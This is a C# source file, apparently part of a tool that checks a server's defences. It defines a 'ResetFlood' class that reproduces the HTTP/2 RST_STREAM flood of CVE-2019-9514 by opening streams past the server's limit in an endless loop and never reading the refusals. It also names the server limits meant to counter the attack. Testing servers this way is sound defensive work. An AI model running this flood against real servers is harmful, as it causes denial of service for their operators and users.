namespace Metering.Attacks;

/// <summary>
/// Makes the server send RST_STREAM after RST_STREAM, by opening streams beyond its limit, and reads none of them, so
/// that they queue up. CVE-2019-9514.
/// </summary>
internal sealed class ResetFlood : Attack
{
    public override string Name => "reset-flood";

    public override string Does => "streams beyond the limit, each refused by an RST_STREAM that is never read (CVE-2019-9514)";

    public override IReadOnlyList<string> MetBy => ["ControlFrames", "ControlFramesPerSecond", "StreamsPerConnection"];

    public override string Unit => "streams";

    public override double UnitsPerSecond => 20_000;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async(isRead: false);
        byte[] headers = HeaderBlock.OfCall(Messages.WritePath, lane.Target.Token);
        var batch = new FrameBatch();
        int stream = -1;
        while (true)
            await lane.SendAsync(connection, batch, most: 500, frames => frames.Headers(stream += 2, headers));
    }
}
